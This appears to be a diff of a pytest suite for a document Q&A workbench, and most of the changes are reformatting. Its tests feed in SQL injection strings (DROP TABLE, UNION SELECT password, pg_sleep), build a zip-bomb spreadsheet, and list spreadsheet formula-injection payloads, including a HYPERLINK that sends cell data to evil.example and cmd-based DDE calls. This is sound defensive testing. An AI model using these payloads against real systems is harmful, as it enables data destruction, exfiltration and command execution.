@@ -15,16 +15,29 @@ from pathlib import Path
 import pymupdf
 import pytest
 
-from core.exports import sheet_csv
-from core.feedback import answer_memo, conversation_history
-from core.qa import ask
+from core.qa.exports import sheet_csv
+from core.qa.feedback import answer_memo, conversation_history
+from core.qa.service import ask
 from core.workbench import Workbench
 from tests.factories import make_xlsx
 
 ROOT = Path(__file__).resolve().parents[2]
 DEMO = ROOT / "data" / "demo"
-TABLES = ("rooms", "documents", "document_files", "pages", "sheets", "sheet_columns", "sheet_rows", "chunks",
-          "term_stats", "conversations", "messages", "qa_queries", "qa_citations")
+TABLES = (
+    "rooms",
+    "documents",
+    "document_files",
+    "pages",
+    "sheets",
+    "sheet_columns",
+    "sheet_rows",
+    "chunks",
+    "term_stats",
+    "conversations",
+    "messages",
+    "qa_queries",
+    "qa_citations",
+)
 
 
 @pytest.fixture
@@ -46,16 +59,53 @@ def _done(wb: Workbench, question: str, room: str = "Demo") -> dict:
 
 
 def _cli(settings, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "DATABASE_URL": settings.database_url, "WORKBENCH_HOME": str(settings.home),
-           "HF_HUB_OFFLINE": "1", "WORKBENCH_RATE_LIMIT": "0"}
-    return subprocess.run([sys.executable, "-m", "core", *args], cwd=ROOT, env=env, capture_output=True, text=True, check=False,
-                          timeout=300)
+    env = {
+        **os.environ,
+        "DATABASE_URL": settings.database_url,
+        "WORKBENCH_HOME": str(settings.home),
+        "HF_HUB_OFFLINE": "1",
+        "WORKBENCH_RATE_LIMIT": "0",
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "core", *args],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=300,
+    )
 
 
 def _long_question(n: int = 20_000) -> str:
     rng = random.Random(5)
-    vocabulary = ["raised", "Canada", "2021", "Series", "fund", "Harvestquay", "revenue", "the", "of", "in", "and",
-                  "lead", "investor", "DROP", "TABLE", "'", ";", "--", "%", "$", "?", "¿", "名前", "שם", "الشركة"]
+    vocabulary = [
+        "raised",
+        "Canada",
+        "2021",
+        "Series",
+        "fund",
+        "Harvestquay",
+        "revenue",
+        "the",
+        "of",
+        "in",
+        "and",
+        "lead",
+        "investor",
+        "DROP",
+        "TABLE",
+        "'",
+        ";",
+        "--",
+        "%",
+        "$",
+        "?",
+        "¿",
+        "名前",
+        "שם",
+        "الشركة",
+    ]
     words: list[str] = []
     while sum(len(w) + 1 for w in words) < n:
         words.append(rng.choice(vocabulary) + (str(rng.randint(0, 9999)) if rng.random() < 0.3 else ""))
@@ -84,27 +134,41 @@ def test_a_20000_character_question_on_the_command_line(demo: Workbench, setting
     assert result["answer"] and result["query_id"]
 
 
-@pytest.mark.parametrize("question", [
-    "'; DROP TABLE documents; --",
-    "How much was raised in Canada'; DELETE FROM chunks WHERE '1'='1",
-    "Robert'); DROP TABLE qa_queries;-- raised how much?",
-    "1 OR 1=1; UPDATE sheet_rows SET values = '{}'::jsonb; --",
-    "%' UNION SELECT password FROM users --",
-    "What is $$ || pg_sleep(10) || $$ ?",
-])
-def test_sql_looking_questions_are_answered_or_abstained_and_every_table_is_intact(demo: Workbench,
-                                                                                    question: str) -> None:
+@pytest.mark.parametrize(
+    "question",
+    [
+        "'; DROP TABLE documents; --",
+        "How much was raised in Canada'; DELETE FROM chunks WHERE '1'='1",
+        "Robert'); DROP TABLE qa_queries;-- raised how much?",
+        "1 OR 1=1; UPDATE sheet_rows SET values = '{}'::jsonb; --",
+        "%' UNION SELECT password FROM users --",
+        "What is $$ || pg_sleep(10) || $$ ?",
+    ],
+)
+def test_sql_looking_questions_are_answered_or_abstained_and_every_table_is_intact(
+    demo: Workbench, question: str
+) -> None:
     before = _counts(demo)
     with demo.db.connection() as conn:
         cells = conn.execute("SELECT md5(string_agg(values::text, ',' ORDER BY id)) FROM sheet_rows").fetchone()[0]
     result = _done(demo, question)
     assert isinstance(result["answer"], str) and result["answer"]
     after = _counts(demo)
-    assert {t: after[t] - before[t] for t in TABLES if after[t] != before[t]} == {
-        "conversations": 1, "messages": 2, "qa_queries": 1, "qa_citations": len(result["citations"]),
-    } if result["citations"] else {"conversations": 1, "messages": 2, "qa_queries": 1}
+    assert (
+        {t: after[t] - before[t] for t in TABLES if after[t] != before[t]}
+        == {
+            "conversations": 1,
+            "messages": 2,
+            "qa_queries": 1,
+            "qa_citations": len(result["citations"]),
+        }
+        if result["citations"]
+        else {"conversations": 1, "messages": 2, "qa_queries": 1}
+    )
     with demo.db.connection() as conn:
-        assert conn.execute("SELECT md5(string_agg(values::text, ',' ORDER BY id)) FROM sheet_rows").fetchone()[0] == cells
+        assert (
+            conn.execute("SELECT md5(string_agg(values::text, ',' ORDER BY id)) FROM sheet_rows").fetchone()[0] == cells
+        )
         logged = conn.execute("SELECT question FROM qa_queries ORDER BY id DESC LIMIT 1").fetchone()[0]
     assert logged == question  # stored verbatim, as a parameter
 
@@ -136,7 +200,7 @@ def test_right_to_left_and_emoji_sheets_are_ingested_intact_and_searchable(workb
     assert values[0][0] == "شركة النور" and values[0][3] == "חברת אור" and values[2][4] == "👩🏽‍💻 coder"
     for query, ref in (("شركة النور", "A2"), ("חברת שמש", "D3"), ("Österreich", "B4"), ("rocket", "E2")):
         hits = workbench.search(query, "غرفة", k=3)
-        assert hits and hits[0].ref.endswith(f"!{ref}") or any(h.ref.endswith(f"!{ref}") for h in hits), (query, hits)
+        assert (hits and hits[0].ref.endswith(f"!{ref}")) or any(h.ref.endswith(f"!{ref}") for h in hits), (query, hits)
     answer = _done(workbench, "Which company is in مصر?", "غرفة")
     assert "شركة النور" in answer["answer"] and answer["citations"] and not answer["abstained"]
     assert [r.name for r in workbench.rooms()] == ["غرفة"]
@@ -148,7 +212,8 @@ def test_right_to_left_and_emoji_sheets_are_ingested_intact_and_searchable(workb
 def _megabyte_of_words() -> str:
     rng = random.Random(1)
     return " ".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) for _ in range(120_000))[
-        :1_000_000]
+        :1_000_000
+    ]
 
 
 def test_a_one_megabyte_csv_cell_is_refused_with_a_clear_message_and_nothing_stored(workbench: Workbench) -> None:
@@ -210,8 +275,10 @@ def _zip_bomb_xlsx(unpacked_mb: int) -> bytes:
     """A workbook whose one sheet unpacks to `unpacked_mb` MB of the same bytes (deflate packs it ~1000:1)."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
-        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
-                                           'package/2006/content-types"/>')
+        zf.writestr(
+            "[Content_Types].xml",
+            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+        )
         with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
             block = b"<c><v>0</v></c>" * 65_536
             for _ in range(unpacked_mb * 1024 * 1024 // len(block) + 1):
@@ -245,8 +312,12 @@ def test_a_pdf_of_thousands_of_pages_is_refused_with_a_clear_message(workbench: 
 
 # -- exports ------------------------------------------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
 
 
 def _formula_room(wb: Workbench) -> Workbench:
